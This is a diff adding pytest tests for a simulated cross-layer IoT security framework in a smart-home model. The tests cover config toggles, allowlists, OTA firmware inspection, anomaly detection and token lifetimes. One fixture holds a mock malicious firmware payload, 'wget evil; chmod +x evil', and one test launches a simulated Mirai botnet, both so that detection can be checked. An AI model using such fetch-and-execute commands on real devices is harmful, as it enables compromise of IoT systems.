@@ -1,0 +1,154 @@
+"""Tests for the XLF facade: wiring, toggles, observers, middleware."""
+
+import pytest
+
+from repro.core import XLF, Layer, XlfConfig
+from repro.core.signals import SignalType
+from repro.device.device import Vulnerabilities
+from repro.device.firmware import FirmwareImage
+from repro.scenarios import SmartHome, SmartHomeConfig
+from repro.security.network.shaping import ShapingConfig
+
+
+def make_home(**kwargs):
+    home = SmartHome(SmartHomeConfig(**kwargs))
+    home.run(5.0)
+    return home
+
+
+def install(home, config=None):
+    xlf = XLF(home.sim, home.gateway, home.cloud, home.devices,
+              home.all_lan_links, config or XlfConfig.full())
+    xlf.refresh_allowlists()
+    return xlf
+
+
+class TestConfigToggles:
+    def test_full_config_installs_everything(self):
+        xlf = install(make_home())
+        assert xlf.encryption_policy and xlf.auth_proxy
+        assert xlf.update_inspector and xlf.constrained_access
+        assert xlf.traffic_monitor and xlf.activity_detector
+        assert xlf.api_guard and xlf.app_verifier and xlf.analytics
+        assert xlf.traffic_shaper is None  # shaping off by default
+
+    def test_off_config_installs_nothing(self):
+        xlf = install(make_home(), XlfConfig.off())
+        assert xlf.encryption_policy is None
+        assert xlf.traffic_monitor is None
+        assert xlf.analytics is None
+
+    def test_only_network(self):
+        xlf = install(make_home(), XlfConfig.only(Layer.NETWORK))
+        assert xlf.traffic_monitor is not None
+        assert xlf.encryption_policy is None
+        assert xlf.analytics is None
+
+    def test_shaping_enabled_by_config(self):
+        config = XlfConfig(shaping=ShapingConfig.delays_only(1.0))
+        xlf = install(make_home(), config)
+        assert xlf.traffic_shaper is not None
+
+    def test_install_audits_devices(self):
+        home = make_home()  # default home carries vulnerable devices
+        xlf = install(home)
+        assert xlf.bus.count_by_type(SignalType.WEAK_CREDENTIALS) >= 1
+
+
+class TestAllowlists:
+    def test_refresh_covers_cloud_and_dns(self):
+        home = make_home()
+        xlf = install(home)
+        for device in home.devices:
+            allowed = xlf.constrained_access.allowlist_of(device.name)
+            assert device.cloud_address in allowed
+            assert "198.51.100.2" in allowed  # public DNS
+
+    def test_traffic_to_cloud_not_blocked(self):
+        home = make_home()
+        xlf = install(home)
+        home.run(200.0)
+        blocked_devices = {d for _t, d, _dst in xlf.constrained_access.blocked}
+        assert not blocked_devices  # benign world: nothing blocked
+
+
+class TestOtaInspection:
+    def test_malicious_image_blocked_in_flight(self):
+        home = make_home(devices=[
+            ("thermostat", Vulnerabilities(unsigned_firmware=True))])
+        home.run(60.0)
+        xlf = install(home)
+        evil = FirmwareImage("mallory", "thermostat", "9.9.9",
+                             b"wget evil; chmod +x evil", malicious=True)
+        home.cloud.ota.publish(evil)
+        home.cloud.ota.create_campaign("c", "thermostat", "9.9.9")
+        device_id = home.device_ids["thermostat-1"]
+        home.cloud.push_update("c", device_id)
+        home.run(home.sim.now + 30.0)
+        assert not home.device("thermostat-1").firmware.compromised
+        assert xlf.bus.count_by_type(SignalType.MALWARE_SIGNATURE) == 1
+
+    def test_clean_signed_image_passes_inspection(self):
+        home = make_home(devices=[("thermostat", Vulnerabilities())])
+        home.run(60.0)
+        xlf = install(home)
+        signer = home.firmware_signers["nest"]
+        update = signer.sign(FirmwareImage("nest", "thermostat", "2.0.0",
+                                           b"good update"))
+        home.cloud.ota.publish(update)
+        home.cloud.ota.create_campaign("c", "thermostat", "2.0.0")
+        home.cloud.push_update("c", home.device_ids["thermostat-1"])
+        home.run(home.sim.now + 30.0)
+        assert home.device("thermostat-1").firmware.current.version == "2.0.0"
+
+
+class TestSignalSummary:
+    def test_summary_counts_by_layer_and_type(self):
+        home = make_home()
+        xlf = install(home)
+        summary = xlf.signal_summary()
+        assert all(":" in key for key in summary)
+        assert sum(summary.values()) == len(xlf.signals)
+
+    def test_alerted_devices_sorted_unique(self):
+        home = make_home()
+        xlf = install(home)
+        assert xlf.alerted_devices() == sorted(set(xlf.alerted_devices()))
+
+
+class TestBatterySilenceIntegration:
+    def test_depleted_device_goes_silent_and_is_flagged(self):
+        home = make_home()
+        xlf = install(home)
+        camera = home.device("camera-1")
+        home.run(200.0)  # learn cadence baselines
+        # Drain the battery: telemetry loop exits on depletion.
+        camera.energy.mains_powered = False
+        camera.energy.capacity_j = 1.0
+        camera.energy.remaining_j = 0.0
+        home.run(home.sim.now + 300.0)
+        silent = xlf.analytics.audit_silence()
+        assert "camera-1" in silent
+        assert xlf.bus.count_by_type(SignalType.TELEMETRY_ANOMALY,
+                                     "camera-1") >= 1
+
+
+class TestTokenPolicyIntegration:
+    def test_risky_device_gets_short_tokens(self):
+        home = make_home()
+        xlf = install(home)
+        from repro.attacks import MiraiBotnet
+
+        attack = MiraiBotnet(home, run_ddos=False)
+        attack.launch()
+        home.run(120.0)
+        now = home.sim.now
+        risky = xlf.token_policy.lifetime_for("camera-1", now)
+        clean = xlf.token_policy.lifetime_for("smart_bulb-1", now)
+        assert risky < clean
+        # And the proxy applies it: authenticate, then shrink.
+        decision = xlf.auth_proxy.authenticate(
+            "alice", "alice-basic-password", "camera-1", "lan")
+        assert decision.granted
+        assert xlf.auth_proxy.apply_token_lifetime(
+            "alice", "camera-1", now + risky)
